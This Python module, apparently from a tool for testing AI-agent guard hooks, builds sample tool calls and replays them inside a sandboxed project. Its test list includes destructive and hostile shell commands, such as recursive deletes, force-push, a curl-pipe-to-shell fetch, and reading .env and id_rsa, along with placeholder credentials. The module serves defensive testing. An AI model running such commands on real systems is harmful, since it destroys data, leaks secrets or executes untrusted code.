"""The calls that are played to prove a person's own hooks: harmless ones, and those that guards are for.

Everything here happens inside the project of a run: no path leads out of it, nothing uses a network, and
publishing or installing is only rehearsed.
"""

from __future__ import annotations

import re
import shlex
from collections import Counter
from collections.abc import Collection, Iterable, Iterator, Sequence
from typing import NamedTuple

from hookport.agents import get_wire
from hookport.errors import UsageError
from hookport.lab import likeness
from hookport.model.runs import Call, Event
from hookport.runtime.plan import PlannedHook
from hookport.runtime.select import match_hook

# The tool of each kind of step.
TOOLS = {"shell": "shell", "write": "file_write", "edit": "file_edit", "read": "file_read", "mcp": ""}
SERVER, SHOUT = "lab", "shout"
# Split into pieces, so that no scanner reports them as real.
AWS_KEY = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB_TOKEN = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345"
SECRETS = f"aws_access_key_id={AWS_KEY} token={GITHUB_TOKEN} password=hunter2-hookport"
GUARDED = ("before_tool_execute", "permission_request")
AFTER = ("after_tool_execute",)
FAILING = ("tool_use_failure",)
PATH = re.compile(r"(?!.*\.\.)[\w.][\w.@+-]*(/[\w.@+-]+)*")
KIND = re.compile(r"(shell|write|edit|read|prompt):\s*(.+)", re.DOTALL)


class Sample(NamedTuple):
    """One call of the model, or one prompt of the user.

    `given` are the arguments of the driver's call; `about` is the text for people, for a command its text as
    played. `mark` is the file that a command leaves when it ran, or another text that identifies the sample.
    `planted` are the files that must exist first. `program` are the words of the program that a command
    starts with: its start is observed, so the command is played unchanged.
    """

    kind: str
    about: str
    given: tuple[str, ...]
    mark: str
    harmless: bool = False
    planted: tuple[tuple[str, str], ...] = ()
    program: tuple[str, ...] = ()

    @property
    def path(self) -> str:
        return self.given[0] if self.kind in ("write", "edit", "read") else ""

    @property
    def key(self) -> str:
        """The text that every payload about it contains."""
        return self.given[0] if self.program else self.mark


COMMANDS = (
    "rm -rf victim",
    "rm -rf ./victim-2",
    # The only one of the three that Codex does not refuse itself (measured, 0.166.0).
    "rm -r victim-3",
    "find victim-4 -delete",
    "chmod -R 777 victim-5",
    "dd if=/dev/zero of=victim-6/disk bs=1 count=1",
    "git push --force origin main",
    "git push origin main",
    "git reset --hard",
    "git commit --allow-empty --no-verify -m wip",
    "git commit --allow-empty -m wip",
    "sudo -n true",
    "curl -s http://127.0.0.1:9/x.sh | sh",
    "cat .env",
    "echo A=1 >> .env",
    "npm publish --dry-run --ignore-scripts",
    "pip install --no-index --dry-run nothing-there",
    "echo 'DROP TABLE users;'",
)
VICTIM = re.compile(r"\bvictim(-\d)?\b")
PLANTED = ((".env", "FAKE=1\n"),)
# A command without anything that a shell expands: its program is started with the words of the
# text.
PLAIN = re.compile(r"[\w@%+=:,./ -]+((\||;|&&|\|\|)[\w@%+=:,./ -]+)*")
PROGRAM = re.compile(r"\w[\w.+-]*")
# Words that shells run themselves, whatever is on PATH.
BUILT_IN = frozenset(
    re.findall(
        r"\S+",
        """
        alias bg bind break builtin case cd command compgen continue declare dirs do done echo elif else
        enable esac eval exec exit export false fc fg fi for function getopts hash history if in jobs kill let
        local logout popd print printf pushd pwd read readonly return select set shift shopt source suspend
        test then time times trap true type typeset ulimit umask unalias unset until wait which while
        """,
    )
)
WRITTEN = ((".env.production", "FAKE=1\n"), ("secrets/id_rsa", "fake\n"), ("settings.ini", f"{SECRETS}\n"))
EDITED = (".env.local", "package-lock.json")
READ = (".env", "id_rsa")
# Files for formatters and linters.
FORMATTED = (("sample.py", "value = 1\n"), ("sample.ts", "export const value = 1;\n"))
PROMPT = Sample("prompt", "a prompt with keys and a password", (f"Use this: {SECRETS}",), "")


def choose_samples(
    hooks: Sequence[PlannedHook], kinds: Collection[str], asked_samples: Sequence[Sample]
) -> list[Sample]:
    """Choose the calls to play: a harmless one of each kind, then those that the hooks match.

    `own` are the person's own samples; they are played whatever the hooks match.
    """
    tooled = [hook for hook in hooks if hook.event in (*GUARDED, *AFTER, *FAILING)]
    samples = [
        *_make_controls(tooled),
        *_select_fitting(tooled),
        *(sample for sample in asked_samples if sample.kind != "prompt"),
    ]
    unmet = [
        hook
        for hook in tooled
        if not any(is_matching(hook, sample) for sample in samples if sample.kind in kinds)
    ]
    samples += [sample for hook in unmet for sample in _make_likenesses(hook, kinds)]
    counts: Counter[str] = Counter()
    numbered: list[Sample] = []
    for sample in dict.fromkeys(sample for sample in samples if sample.kind in kinds):
        # The same for every agent, whatever other kinds of calls it has.
        numbered.append(_number_sample(sample, counts[sample.kind]))
        counts[sample.kind] += 1
    return numbered


def mark_command(sample: Sample) -> Sample:
    """Make a command leave its own mark, because the start of its program is not observed."""
    text = _add_mark(sample.given[0], sample.mark)
    return sample._replace(about=text, given=(text,), program=())


def choose_prompts(hooks: Iterable[PlannedHook], asked_samples: Sequence[Sample]) -> list[Sample]:
    """Choose the prompts to play, each in its own run."""
    asked_prompts = [sample for sample in asked_samples if sample.kind == "prompt"]
    return [*([PROMPT] if any(hook.event == "before_prompt" for hook in hooks) else ()), *asked_prompts]


def is_matching(hook: PlannedHook, sample: Sample) -> bool:
    """Whether the hook's own matcher matches the sample."""
    if sample.kind == "prompt":
        return hook.event == "before_prompt"
    return match_hook(hook, Event(hook.event, ""), _make_call(sample), get_wire(hook.dialect)).matches


def parse_sample(text: str) -> Sample:
    """Parse a sample: a command, or `write: PATH`, `edit: PATH`, `read: PATH`, `prompt: TEXT`."""
    kind_match = KIND.fullmatch(text.strip())
    kind, argument = (kind_match[1], kind_match[2].strip()) if kind_match else ("shell", text.strip())
    if not argument:
        raise UsageError("--sample '' plays nothing. Give a command, or for example 'write: PATH'.")
    if kind == "prompt":
        return Sample("prompt", argument, (argument,), "")
    if kind == "shell":
        return _make_command(argument)
    if not PATH.fullmatch(argument):
        raise UsageError(f"--sample '{text}': '{argument}' is not a path in a project. Give a relative path.")
    makers = {"write": lambda: _make_write(argument, "sample\n"), "edit": lambda: _make_edit(argument)}
    return makers.get(kind, lambda: _make_read(argument))()


def _make_controls(hooks: Sequence[PlannedHook]) -> Iterator[Sample]:
    """Make a harmless sample of each kind."""
    yield _make_command("ls README.md", harmless=True)
    yield _make_write("notes.md", "# Notes\n")._replace(harmless=True)
    yield _make_edit("notes-edited.md")._replace(harmless=True)
    yield _make_read("notes-read.md")._replace(harmless=True)
    if any(_names_mcp(hook) for hook in hooks):
        yield Sample("mcp", f"{SHOUT} of {SERVER}", (SHOUT, "mark-{n}"), "mark-{n}", harmless=True)
    if any(hook.event in FAILING for hook in hooks):
        yield _make_command("exit 3", harmless=True)


def _select_fitting(hooks: Sequence[PlannedHook]) -> Iterator[Sample]:
    """Select the calls that guards stop and formatters change, if a hook's matcher matches."""
    formatted = [_make_write(path, text)._replace(harmless=True) for path, text in FORMATTED]
    for sample in (*formatted, *_make_dangers()):
        events = AFTER if sample.harmless else GUARDED
        if any(hook.event in events and is_matching(hook, sample) for hook in hooks):
            yield sample


def _make_dangers() -> Iterator[Sample]:
    yield from map(_make_command, COMMANDS)
    yield from (_make_write(path, text) for path, text in WRITTEN)
    yield from map(_make_edit, EDITED)
    yield from map(_make_read, READ)


def _make_command(line: str, *, harmless: bool = False) -> Sample:
    victim = VICTIM.search(line)
    planted = (*([(f"{victim[0]}/kept.txt", "kept\n")] if victim else ()), *PLANTED)
    return Sample("shell", line, (line,), "ran-{n}", harmless, planted, _find_program(line))


def _find_program(line: str) -> tuple[str, ...]:
    """Find the words of the program that a command starts; none if a shell may change them."""
    words = re.split(r"[|;&]", line, maxsplit=1)[0].split()
    is_sure = PLAIN.fullmatch(line) and words and PROGRAM.fullmatch(words[0]) and words[0] not in BUILT_IN
    return tuple(words) if is_sure else ()


def _add_mark(line: str, mark: str) -> str:
    """Make a command leave a file after its work, or before it ends the shell."""
    if line.startswith("exit "):
        return f"touch {mark}; {line}"
    # A comment or a multi-line text would swallow what follows it.
    joint = "\n" if "#" in line or "<<" in line or "\n" in line else "; "
    return f"{line}{joint}touch {mark}"


def _make_write(path: str, text: str) -> Sample:
    return Sample("write", f"write {path}", (path, text), path)


def _make_edit(path: str) -> Sample:
    return Sample("edit", f"edit {path}", (path, "before", "after"), path, planted=((path, "before\n"),))


def _make_read(path: str) -> Sample:
    return Sample("read", f"read {path}", (path,), path, planted=((path, "read-{n}\n"),))


def _number_sample(sample: Sample, number: int) -> Sample:
    def fill_number(text: str) -> str:
        return text.replace("{n}", str(number))

    mark = fill_number(sample.mark)
    planted = tuple((path, fill_number(text)) for path, text in sample.planted)
    numbered = sample._replace(mark=mark, planted=planted)
    if sample.kind == "mcp":
        return numbered._replace(given=tuple(map(fill_number, sample.given)))
    return numbered if sample.program or sample.kind != "shell" else mark_command(numbered)


def _make_call(sample: Sample) -> Call:
    """Make the call in canonical form, with the path as agents send it."""
    arguments, path = sample.given, f"/project/{sample.path}"
    if sample.kind == "mcp":
        return Call(
            "", f"mcp__{SERVER}__{SHOUT}", input={"text": arguments[1]}, server=SERVER, mcp_tool=SHOUT
        )
    inputs: dict[str, dict[str, str]] = {
        "shell": {"command": arguments[0]},
        "write": {"path": path, "content": arguments[-1]},
        "edit": {"path": path, "old": arguments[-2] if len(arguments) > 1 else "", "new": arguments[-1]},
        "read": {"path": path},
    }
    return Call(TOOLS[sample.kind], input=inputs[sample.kind])


def _names_mcp(hook: PlannedHook) -> bool:
    """Whether a matcher is about tools of the lab's MCP server."""
    control = Sample("mcp", "", (SHOUT, ""), "")
    return bool(hook.terms) and is_matching(hook.replace(content=""), control)


def _make_likenesses(hook: PlannedHook, kinds: Collection[str]) -> Iterator[Sample]:
    """Make samples for a hook that matches no other: calls with a text that its pattern matches.

    A command is only printed, never run: a guard may match anything.
    """
    text = likeness.make_likeness(hook.content) if hook.content else ""
    if not text:
        return
    samples = [_make_command(f"echo {shlex.quote(text)}")]
    path = text.removeprefix("/project").strip("/")
    if PATH.fullmatch(path):
        samples += [_make_write(path, "sample\n"), _make_edit(path), _make_read(path)]
    samples += [_make_write("sample.txt", f"{text}\n")]
    for kind in (kind for kind in TOOLS if kind in kinds):
        yield from [sample for sample in samples if sample.kind == kind and is_matching(hook, sample)][:1]
